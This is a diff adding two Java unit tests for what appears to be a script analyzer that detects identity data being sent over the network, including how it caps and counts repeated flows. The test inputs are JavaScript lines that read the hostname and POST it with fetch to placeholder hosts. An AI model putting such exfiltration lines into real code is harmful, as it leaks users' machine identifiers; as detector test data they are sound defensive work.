@@ -40,4 +40,26 @@ class ScriptAnalyzerTest {
 
         assertThat(analysis.flowNames()).isEmpty();
     }
+
+    /** Fourteen times the same; ten are told, and how many more there are. */
+    @Test
+    void tellsOnlySomeOfManyEqualFlowsAndCountsTheRest() {
+        Analysis analysis = Analysis.ofActivate("const name = os.hostname();\n"
+                + "fetch('https://far.example/in', { method: 'POST', body: name });\n".repeat(14));
+
+        assertThat(analysis.flows("account-identity", "network-send"))
+                .hasSize(10)
+                .allSatisfy(flow -> assertThat(flow.evidence().note()).endsWith("(4 more flows like this one)"));
+    }
+
+    @Test
+    void hidesNoFlowBehindTenOthersThatGoElsewhere() {
+        Analysis analysis = Analysis.ofActivate("const name = os.hostname();\n"
+                + "fetch('https://near.example/in', { method: 'POST', body: name });\n".repeat(14)
+                + "const box = { kept: [name] };\n"
+                + "fetch('https://far.example/in', { method: 'POST', body: JSON.stringify(box) });\n");
+
+        assertThat(analysis.destinations("account-identity", "network-send"))
+                .containsExactlyInAnyOrder("https://near.example/in", "https://far.example/in");
+    }
 }
